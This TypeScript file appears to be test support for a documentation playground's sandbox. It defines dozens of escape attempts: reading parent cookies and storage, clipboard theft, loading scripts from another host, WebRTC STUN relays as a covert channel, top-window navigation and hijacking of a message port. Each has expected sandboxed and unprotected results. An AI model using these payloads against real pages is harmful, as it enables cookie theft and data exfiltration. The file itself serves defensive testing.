import type { LoopbackHost } from './loopback-host.ts'

/**
 * Attempt of an untrusted program, with its result in the sandbox (`sandboxed`) and with the sandbox disabled
 * (`unprotected`).
 */
export interface Attack {
  name: string
  /**
   * Body of an async function. The result is its return value or the name of its error, followed by the CSP directives
   * that refused something; `no result` after five seconds.
   */
  code: string
  sandboxed: string
  unprotected: string
  /** Host that receives a request when the sandbox is disabled. */
  reaches?: 'site' | 'otherHost'
}

export interface AttackTargets {
  site: string
  otherHost: string
  /** UDP ports of the other host, by the name of the attempt that sends to them. */
  relays: Readonly<Record<string, number>>
}

/** Attempts that do not navigate, so that one program can make them all. */
export const attacks = (targets: AttackTargets): Attack[] => [
  // These need the user activation of the click, which the last of them consumes.
  {
    name: 'copying',
    code: `addEventListener('copy', event => { event.clipboardData.setData('text/plain', 'stolen'); event.preventDefault() }, { once: true }); return document.execCommand('copy')`,
    sandboxed: 'false',
    unprotected: 'true'
  },
  {
    name: 'copying by another spelling',
    // Firefox may still be busy with the previous copy, so the attempt is repeated.
    code: `addEventListener('cut', event => { event.clipboardData.setData('text/plain', 'stolen'); event.preventDefault() }); let done = false; for (let tries = 0; tries < 20 && !done; tries++) { done = document.execCommand({ toString: () => 'CUT' }); if (!done) await wait(50) } return done`,
    sandboxed: 'false',
    unprotected: 'true'
  },
  {
    name: 'fullscreen',
    code: 'await document.documentElement.requestFullscreen(); const gone = document.exitFullscreen(); await gone; return "shown"',
    sandboxed: 'TypeError',
    unprotected: 'shown'
  },
  { name: 'parent document', code: 'return parent.document.title', sandboxed: 'SecurityError', unprotected: title },
  { name: 'top cookies', code: 'return top.document.cookie', sandboxed: 'SecurityError', unprotected: 'secret=1' },
  {
    name: 'parent storage',
    code: 'return parent.localStorage.getItem("vxe-docs:upgrade-notice")',
    sandboxed: 'SecurityError',
    unprotected: 'read'
  },
  {
    name: 'parent address',
    code: 'return parent.location.pathname',
    sandboxed: 'SecurityError',
    unprotected: '/v3.8/'
  },
  { name: 'frame element', code: 'return frameElement', sandboxed: 'null', unprotected: '[object HTMLIFrameElement]' },
  {
    name: 'real storage',
    code: 'return Object.getOwnPropertyDescriptor(document.body.appendChild(document.createElement("iframe")).contentWindow, "localStorage").get.call(window).getItem("vxe-docs:upgrade-notice")',
    sandboxed: 'SecurityError',
    unprotected: 'read'
  },
  {
    name: 'cookies',
    code: 'document.cookie = "stolen=1"; return document.cookie.includes("stolen=1")',
    sandboxed: 'SecurityError',
    unprotected: 'true'
  },
  {
    name: 'indexed database',
    code: 'return await event(indexedDB.open("a"), "success", "error")',
    sandboxed: 'SecurityError',
    unprotected: 'success'
  },
  { name: 'caches', code: 'return (await caches.keys()).length', sandboxed: 'SecurityError', unprotected: '0' },
  {
    name: 'service worker',
    code: `return (await navigator.serviceWorker.register("${targets.site}/v3.8/planted/script?by=service worker")).active`,
    sandboxed: 'SecurityError',
    unprotected: 'null',
    reaches: 'site'
  },
  { name: 'window', code: 'return open("about:blank")', sandboxed: 'null', unprotected: '[object Window]' },
  { name: 'alert', code: 'return alert("a")', sandboxed: 'undefined', unprotected: 'undefined' },
  { name: 'prompt', code: 'return prompt("a")', sandboxed: 'null', unprotected: 'typed' },
  { name: 'confirm', code: 'return confirm("a")', sandboxed: 'false', unprotected: 'true' },
  {
    name: 'clipboard',
    code: 'focus(); return await navigator.clipboard.readText()',
    sandboxed: 'NotAllowedError',
    unprotected: 'stolen'
  },
  {
    name: 'geolocation',
    code: 'return await new Promise(done => navigator.geolocation.getCurrentPosition(({ coords }) => done(coords.latitude), ({ message }) => done(message)))',
    sandboxed: 'Geolocation has been disabled in this document by permissions policy.',
    unprotected: '52'
  },
  {
    name: 'worker of text',
    code: 'return await event(new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))), "message", "error")',
    sandboxed: 'error, worker-src',
    unprotected: 'message'
  },
  {
    name: 'worker that imports',
    code: `return await event(new Worker(URL.createObjectURL(new Blob(["importScripts('${targets.otherHost}/planted/script?by=worker that imports')"]))), "message", "error")`,
    sandboxed: 'error, worker-src',
    unprotected: 'message',
    reaches: 'otherHost'
  },
  {
    name: 'worker',
    code: `return await event(new Worker("${targets.site}/planted/script?by=worker"), "message", "error")`,
    sandboxed: 'SecurityError',
    unprotected: 'message',
    reaches: 'site'
  },
  {
    name: 'download',
    code: 'Object.assign(document.createElement("a"), { href: "data:text/plain,a", download: "a.txt" }).click()',
    sandboxed: 'undefined',
    unprotected: 'undefined'
  },
  ...storageAttacks,
  ...relayAttacks(targets),
  ...(['site', 'otherHost'] as const).flatMap(host => loadAttacks(host, targets[host]))
]

/** Names of the attempts that send datagrams. */
export const relayAttackNames = [
  'relay',
  'prefixed relay',
  'relay of a child frame',
  'relay of a child frame, before its insertion ends',
  'relay of a frame of text'
] as const

export const openTargets = async (site: LoopbackHost, otherHost: LoopbackHost): Promise<AttackTargets> => ({
  site: site.origin,
  otherHost: otherHost.origin,
  relays: Object.fromEntries(
    await Promise.all(relayAttackNames.map(async name => [name, await otherHost.openRelay(name)]))
  )
})

/**
 * WebRTC sends datagrams to any server that a program names, with any text as user name, and no browser policy applies.
 */
function relayAttacks({ relays: ports }: AttackTargets): Attack[] {
  const connect = (from: string, name: string) =>
    `const { RTCPeerConnection: Peer } = { RTCPeerConnection: ${from} }; if (!Peer) return 'none'; const peer = new Peer({ iceServers: [{ urls: 'stun:127.0.0.1:${ports[name]}' }] }); peer.createDataChannel('a'); await peer.setLocalDescription(await peer.createOffer()); await wait(500); return 'asked'`
  const peerSources = {
    relay: 'window.RTCPeerConnection',
    'prefixed relay': 'window.webkitRTCPeerConnection',
    'relay of a child frame':
      'document.body.appendChild(document.createElement("iframe")).contentWindow.RTCPeerConnection',
    'relay of a child frame, before its insertion ends':
      'await new Promise((done, failed) => document.body.append(Object.assign(document.createElement("iframe"), { onload () { try { done(window[window.length - 1].RTCPeerConnection) } catch (error) { failed(error) } } })))',
    'relay of a frame of text':
      'await new Promise((done, failed) => document.body.append(Object.assign(document.createElement("iframe"), { srcdoc: "<p>", onload () { try { done(this.contentWindow.RTCPeerConnection) } catch (error) { failed(error) } } })))'
  } satisfies Record<(typeof relayAttackNames)[number], string>
  return [
    ...relayAttackNames.map(name => ({
      name,
      code: connect(peerSources[name], name),
      sandboxed: /frame/.test(name) ? 'SecurityError' : 'none',
      unprotected: 'asked',
      reaches: 'otherHost' as const
    })),
    ...['WebTransport', 'PaymentRequest'].map(name => ({
      name: `constructor ${name}`,
      code: `return typeof window.${name}`,
      sandboxed: 'undefined',
      unprotected: 'function'
    }))
  ]
}

/** Other resources that an origin stores or shares. */
const storageAttacks: Attack[] = [
  {
    name: 'files of the origin',
    code: 'return await navigator.storage.getDirectory()',
    sandboxed: 'SecurityError',
    unprotected: '[object FileSystemDirectoryHandle]'
  },
  {
    name: 'locks',
    code: 'return await navigator.locks.request("a", () => "held")',
    sandboxed: 'SecurityError',
    unprotected: 'held'
  },
  {
    name: 'cookies, one by one',
    code: 'return (await cookieStore.get("secret")).value',
    sandboxed: 'SecurityError',
    unprotected: '1'
  },
  {
    name: 'writing the clipboard',
    code: 'return await navigator.clipboard.writeText("copied")',
    sandboxed: 'NotAllowedError',
    unprotected: 'undefined'
  },
  {
    name: 'another page of the site',
    code: 'return parent.document.querySelector("h1").textContent',
    sandboxed: 'SecurityError',
    unprotected: '演练场'
  },
  {
    name: 'rewriting the page',
    code: 'parent.document.title = "taken"; return parent.document.title',
    sandboxed: 'SecurityError',
    unprotected: 'taken'
  },
  {
    name: 'listening to the page',
    code: 'parent.addEventListener("keydown", () => {}); return "listening"',
    sandboxed: 'SecurityError',
    unprotected: 'listening'
  }
]

const title = 'vxe-table'

/** Attempts to load a resource from a host. */
function loadAttacks(host: 'site' | 'otherHost', origin: string): Attack[] {
  const addressOf = (kind: string, name: string) =>
    JSON.stringify(`${origin}/planted/${kind}?by=${name} from the ${host}`)
  const load = (
    name: string,
    kind: string,
    refused: string,
    unprotected: string,
    code: (address: string) => string
  ) => ({
    name: `${name} from the ${host}`,
    code: code(addressOf(kind, name)),
    sandboxed: refused,
    unprotected,
    reaches: host
  })
  const element =
    (tag: string, attribute: string, more = '', loadEvent = 'load') =>
    (address: string) =>
      `return await element("${tag}", { ${more}${attribute}: ${address} }, "${loadEvent}")`
  return [
    load(
      'fetch',
      'text',
      'TypeError, connect-src',
      'planted',
      address => `return await (await fetch(${address}, { credentials: "include" })).text()`
    ),
    load(
      'blind fetch',
      'text',
      'TypeError, connect-src',
      host === 'site' ? 'basic' : 'opaque',
      address => `return (await fetch(${address}, { mode: "no-cors" })).type`
    ),
    load(
      'request',
      'text',
      'error, connect-src',
      'planted',
      address =>
        `const x = new XMLHttpRequest(); x.open("GET", ${address}); x.send(); const result = await event(x, "load", "error"); return result === "load" ? x.responseText : result`
    ),
    load('beacon', 'text', 'true, connect-src', 'true', address => `return navigator.sendBeacon(${address}, "a")`),
    load(
      'events',
      'events',
      'error, connect-src',
      'open',
      address =>
        `const s = new EventSource(${address}); const result = await event(s, "open", "error"); s.close(); return result`
    ),
    load(
      'socket',
      'text',
      'error, connect-src',
      'open',
      address =>
        `const s = new WebSocket(${address}.replace("http", "ws")); const result = await event(s, "open", "error"); s.close(); return result`
    ),
    load('image', 'image', 'error, img-src', 'load', element('img', 'src')),
    load('script', 'script', 'error, script-src-elem', 'load', element('script', 'src')),
    load('module', 'module', 'error, script-src-elem', 'load', element('script', 'src', 'type: "module", ')),
    load(
      'import',
      'module',
      'TypeError, script-src-elem',
      'true',
      address => `return (await new Function("return import(" + JSON.stringify(${address}) + ")")()).planted`
    ),
    load('sheet', 'sheet', 'error, style-src-elem', 'load', element('link', 'href', 'rel: "stylesheet", ')),
    load(
      'sheet in a sheet',
      'sheet',
      'undefined, style-src-elem',
      'undefined',
      address => `await style('@import ' + JSON.stringify(${address}))`
    ),
    load(
      'font',
      'font',
      'NetworkError, font-src',
      'loaded',
      address => `return (await new FontFace("planted", 'url(' + JSON.stringify(${address}) + ')').load()).status`
    ),
    load(
      'background',
      'image',
      'undefined, img-src',
      'undefined',
      address => `await style('body { background: url(' + JSON.stringify(${address}) + ') }')`
    ),
    load(
      'preload',
      'script',
      'error, script-src-elem',
      'load',
      element('link', 'href', 'rel: "preload", as: "script", ')
    ),
    load('prefetch', 'script', 'error, default-src', 'load', element('link', 'href', 'rel: "prefetch", ')),
    load('image of a set', 'image', 'error, img-src', 'load', address =>
      element('img', 'srcset')(`${address}.replaceAll(" ", "%20")`)
    ),
    load('image button', 'image', 'error, img-src', 'load', element('input', 'src', 'type: "image", ')),
    load(
      'poster',
      'image',
      'undefined, img-src',
      'undefined',
      address =>
        `document.body.append(Object.assign(document.createElement("video"), { poster: ${address} })); await wait(200)`
    ),
    load(
      'cursor',
      'image',
      'undefined, img-src',
      'undefined',
      address => `await style('body { cursor: url(' + JSON.stringify(${address}) + '), auto }')`
    ),
    load(
      'list marker',
      'image',
      'undefined, img-src',
      'undefined',
      address =>
        `document.body.append(document.createElement('ul')); document.body.lastChild.append(document.createElement('li')); await style('li { list-style-image: url(' + JSON.stringify(${address}) + ') }')`
    ),
    load(
      'generated content',
      'image',
      'undefined, img-src',
      'undefined',
      address => `await style('body::after { content: url(' + JSON.stringify(${address}) + ') }')`
    ),
    load(
      'font of a sheet',
      'font',
      'undefined, font-src',
      'undefined',
      address =>
        `await style('@font-face { font-family: of-${host}; src: url(' + JSON.stringify(${address}) + ') } body { font-family: of-${host} }')`
    ),
    load(
      'drawing in a drawing',
      'image',
      'undefined, img-src',
      'undefined',
      address =>
        `document.body.insertAdjacentHTML('beforeend', '<svg><image width="1" height="1" href="' + ${address} + '"/></svg>'); await wait(200)`
    ),
    load(
      'text that is parsed',
      'image',
      'undefined, img-src',
      'undefined',
      address => `document.body.insertAdjacentHTML('beforeend', '<img src="' + ${address} + '">'); await wait(200)`
    ),
    load(
      'lasting fetch',
      'text',
      'TypeError, connect-src',
      host === 'site' ? 'basic' : 'opaque',
      address => `return (await fetch(${address}, { mode: "no-cors", keepalive: true, credentials: "include" })).type`
    ),
    load(
      'module preload',
      'module',
      'error, script-src-elem',
      'load',
      element('link', 'href', 'rel: "modulepreload", ')
    ),
    load(
      'embedded page',
      'page',
      'undefined, object-src',
      'undefined',
      address =>
        `document.body.append(Object.assign(document.createElement("embed"), { src: ${address} })); await wait(200)`
    ),
    load('sound', 'sound', 'error, media-src', 'loadeddata', element('audio', 'src', '', 'loadeddata')),
    load('frame', 'page', 'load, frame-src', 'load', element('iframe', 'src')),
    load('object', 'page', 'error, object-src', 'load', element('object', 'data')),
    load(
      'frame of text',
      'image',
      'load',
      'load',
      address => `return await element("iframe", { srcdoc: '<img src="' + ${address} + '">' })`
    ),
    load(
      'base',
      'image',
      'error, base-uri, img-src',
      'load',
      address =>
        `const b = document.createElement("base"); b.href = new URL(${address}).origin; document.head.append(b); const result = await element("img", { src: ${address}.slice(b.href.length - 1) }); b.remove(); return result`
    )
  ]
}

/** Attempts that navigate the page or the program away. With the sandbox disabled each needs a page of its own. */
export function navigationAttacks(otherHost: string): Attack[] {
  const createAttack = (name: string, sandboxed: string, code: (address: string) => string): Attack => ({
    name,
    code: code(JSON.stringify(`${otherHost}/planted/page?by=${name}`)),
    sandboxed,
    unprotected: '',
    reaches: 'otherHost'
  })
  const form = (target: string) => (address: string) =>
    `const f = Object.assign(document.createElement("form"), { action: ${address}, method: "post", target: "${target}" }); document.body.append(f); f.submit()`
  const link = (target: string) => (address: string) =>
    `const a = Object.assign(document.createElement("a"), { href: ${address}, target: "${target}" }); document.body.append(a); a.click()`
  return [
    createAttack('address of the top', 'SecurityError', address => `top.location = ${address}`),
    createAttack('address of the parent', 'SecurityError', address => `parent.location.href = ${address}`),
    createAttack('replacing the top', 'SecurityError', address => `top.location.replace(${address})`),
    createAttack('opening in the top', 'null', address => `return open(${address}, "_top")`),
    createAttack('opening a window', 'null', address => `return open(${address}, "_blank")`),
    ...['_self', '_top', '_parent', '_blank'].map(target =>
      createAttack(`form to ${target}`, 'undefined', form(target))
    ),
    ...['_top', '_parent', '_blank'].map(target => createAttack(`link to ${target}`, 'undefined', link(target))),
    createAttack(
      'ping',
      'undefined, connect-src',
      address =>
        `const a = Object.assign(document.createElement("a"), { href: "#", ping: ${address} }); document.body.append(a); a.click()`
    )
  ]
}

/**
 * Code that takes over the message port of the frame. The frame's program cannot protect the port from code that
 * replaces built-ins, so the page trusts no message.
 */
export const stealPortCode = `
    const own = Object.getOwnPropertyDescriptor(MessageEvent.prototype, 'data')
    const port = await new Promise(done => Object.defineProperty(MessageEvent.prototype, 'data', { configurable: true, get () { const value = own.get.call(this); if (value && value.type === 'ping') done(this.target); return value } }))
    const say = text => port.postMessage({ type: 'console', run: 1, level: 'log', parts: [{ kind: 'text', text }] })
`

/** Lines that the program writes when each attempt has its expected result. */
export const expectedLines = (
  attempts: readonly Attack[],
  protection: 'sandboxed' | 'unprotected' = 'sandboxed'
): string[] => [...attempts.map(attempt => `${attempt.name}: ${attempt[protection]}`), 'end']

/** Program that waits for a click, makes the attempts one after the other and writes the result of each. */
export const createAttackProgram = (attempts: readonly Attack[]): string => `<template>
  <div><button @click="go">go</button><pre id="result">{{ lines.join('\\n') }}</pre></div>
</template>
<script>
const wait = time => new Promise(done => setTimeout(done, time))
const event = (target, good, bad) => new Promise(done => {
  for (const name of [good, bad]) target.addEventListener(name, () => done(name))
})
const element = (tag, attributes, good = 'load') => {
  const made = Object.assign(document.createElement(tag), attributes)
  const result = event(made, good, 'error')
  document.body.append(made)
  return result
}
const style = async text => {
  document.head.append(Object.assign(document.createElement('style'), { textContent: text }))
  await wait(200)
}
const refusals = new Set()
addEventListener('securitypolicyviolation', event => refusals.add(event.effectiveDirective))
const attempts = {
${attempts.map(({ name, code }) => `  ${JSON.stringify(name)}: async () => { ${code} }`).join(',\n')}
}
export default {
  data: () => ({ lines: [] }),
  methods: {
    async go () {
      for (const [name, attempt] of Object.entries(attempts)) {
        refusals.clear()
        const result = await Promise.race([attempt(), wait(5000).then(() => 'no result')]).catch(error => error.name)
        await wait(50)
        this.lines.push(name + ': ' + [String(result), ...refusals].join(', '))
      }
      this.lines.push('end')
    }
  }
}
</script>`
